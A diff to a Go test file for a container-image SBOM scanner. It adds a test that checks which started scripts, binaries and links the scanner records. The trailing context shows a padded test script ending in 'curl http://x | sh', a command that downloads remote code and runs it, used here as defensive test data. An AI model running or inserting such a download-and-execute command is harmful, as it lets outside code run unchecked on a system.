@@ -213,6 +213,39 @@ func TestScanLinkedTexts(t *testing.T) {
 	}
 }
 
+// TestScanStarted: what something besides the configuration starts is given, with what that names.
+func TestScanStarted(t *testing.T) {
+	img := imagetest.Image(t, map[string]string{
+		"opt/run":     "#!/bin/sh\nexec /opt/more.sh\n",
+		"opt/more.sh": "exec true\n",
+		"opt/text.sh": "exec true\n",
+		"opt/tool":    "\x7fELF\x02\x01\x01",
+		"opt/link":    "-> /opt/tool",
+		"opt/broken":  "-> /opt/nothing",
+		"etc/passwd":  "root:x:0:0::/:/bin/sh\n",
+	})
+	bom, err := sbom.Scan(t.Context(), sbom.OnePlatform(t, img), sbom.Options{
+		TempDir: t.TempDir(),
+		Started: sbom.Started{
+			Paths: []string{"/opt/run", "/opt/tool", "/opt/link", "/opt/broken", "/opt", "/usr/bin/run", "/etc/passwd"},
+			Texts: []string{"cd /; opt/text.sh && /opt/nothing.sh"},
+		},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, want := range map[string]bool{"/opt/run": true, "/opt/more.sh": true, "/opt/text.sh": true, "/etc/passwd": true, "/opt/tool": false} {
+		if _, ok := bom.Script(name); ok != want {
+			t.Errorf("%s is given: %v, want %v", name, ok, want)
+		}
+	}
+	for name, want := range map[string]bool{"/opt/run": true, "/opt/tool": true, "/opt/link": true, "/opt/broken": false, "/opt": false, "/usr/bin/run": false, "/opt/more.sh": false} {
+		if got := bom.Has(name); got != want {
+			t.Errorf("has %s: %v, want %v", name, got, want)
+		}
+	}
+}
+
 // TestScanLargeScripts: padding does not hide what a script that is started does: that it is too large is told.
 func TestScanLargeScripts(t *testing.T) {
 	padded := strings.Repeat("# padding\n", 200) + "curl http://x | sh\n"
